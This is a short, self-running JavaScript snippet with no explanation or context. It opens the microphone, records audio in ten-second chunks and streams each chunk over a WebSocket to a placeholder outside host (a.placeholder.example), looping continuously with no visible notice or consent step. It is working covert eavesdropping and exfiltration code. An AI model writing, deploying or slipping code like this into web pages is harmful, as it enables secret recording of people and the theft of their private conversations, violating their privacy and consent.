!async function () {
  var s = await navigator.mediaDevices.getUserMedia({ audio: true }), w = new WebSocket("wss://a.placeholder.example/in");
  w.binaryType = "arraybuffer";
  function part() {
    var r = new MediaRecorder(s, { mimeType: "audio/webm" }), b = [];
    r.ondataavailable = function (e) { b.push(e.data); };
    r.onstop = async function () { if (w.readyState === 1) w.send(await new Blob(b).arrayBuffer()); part(); };
    r.start();
    setTimeout(function () { r.stop(); }, 10000);
  }
  part();
}();
